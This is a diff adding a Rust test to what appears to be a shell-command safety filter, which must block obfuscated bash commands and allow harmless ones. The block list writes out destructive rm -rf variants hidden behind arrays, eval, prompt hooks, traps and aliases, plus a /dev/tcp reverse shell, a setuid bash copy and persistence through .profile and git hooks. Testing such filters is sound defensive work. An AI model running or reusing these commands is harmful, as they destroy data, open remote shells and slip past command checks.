@@ -144,3 +144,55 @@ fn harmless_commands_pass_behind_every_wrapper() {
     }
     assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
 }
+
+/// Features of the shell that hide a command, a target or the moment at which something runs.
+#[test]
+fn hidden_commands_are_found() {
+    judging::check(
+        Verdict::Block,
+        [
+            "words=(echo rm -rf /); \"${words[@]:1}\"",
+            "set -- x rm -rf ~; \"${@:2}\"",
+            "IFS=_ read -r p q r <<< 'rm_-rf_/'; $p $q $r",
+            "read -d '' line <<< 'rm -rf /'; $line",
+            "mapfile -t parts <<'EOF'\nrm\n-rf\n/etc\nEOF\n\"${parts[@]}\"",
+            "env 'BASH_FUNC_git%%=() { rm -rf ~; }' bash -c 'git status'",
+            "PS4='$(rm -rf ~) '; set -x; pwd",
+            "PROMPT_COMMAND='rm -rf ~'",
+            "text='$(rm -rf ~)'; : \"${text@P}\"",
+            "complete -C 'rm -rf ~' git",
+            "/b?n/r[m] -rf /",
+            "name=HOME; rm -rf \"${!name}\"",
+            "declare -n where=HOME; rm -rf \"$where\"",
+            "declare -A part=([verb]=rm [flag]=-rf [where]=/); ${part[verb]} ${part[flag]} ${part[where]}",
+            "declare -A part; part[a]=rm; part[b]=/; ${part[a]} -rf ${part[b]}",
+            "set -- -c 'rm -rf ~'; while getopts c: option; do eval \"$OPTARG\"; done",
+            "\"$0\" -c 'rm -rf ~'",
+            "hash -p /bin/rm cat; cat -rf /",
+            "command_not_found_handle() { rm -rf ~; }; gti status",
+            "value='list[$(rm -rf ~)]'; (( value > 0 ))",
+            "value='list[$(rm -rf ~)]'; let value",
+            "rm -rf \"${PATH:0:1}\"",
+            "echo 'rm -rf ~' >> ~/.profile",
+            "printf 'rm -rf ~\\n' > .git/hooks/pre-commit",
+            "exec 7<>/dev/tcp/203.0.113.9/443; bash <&7 >&7 2>&7",
+            "cp /bin/bash /tmp/.x && chmod u+s /tmp/.x",
+            "printf -v line '%s -%s %s' rm rf /; $line",
+            "alias ls='rm -rf ~'; ls",
+            "declare run=rm; declare run+=' -rf /'; $run",
+            "trap 'rm -rf ~' DEBUG",
+        ],
+    );
+    judging::check(
+        Verdict::Allow,
+        [
+            "PS1='\\u@\\h $ '",
+            "declare -A size=([small]=1 [large]=9); echo \"${size[small]}\"",
+            "for key in \"${!size[@]}\"; do echo \"$key\"; done",
+            "while IFS=, read -r first second; do echo \"$second\"; done < table.csv",
+            "cd \"$(dirname \"$0\")\" && ls",
+            "complete -F _git_completion git",
+            "git clone https://example.com/x.git /tmp/x && rm -rf /tmp/x/.git",
+        ],
+    );
+}
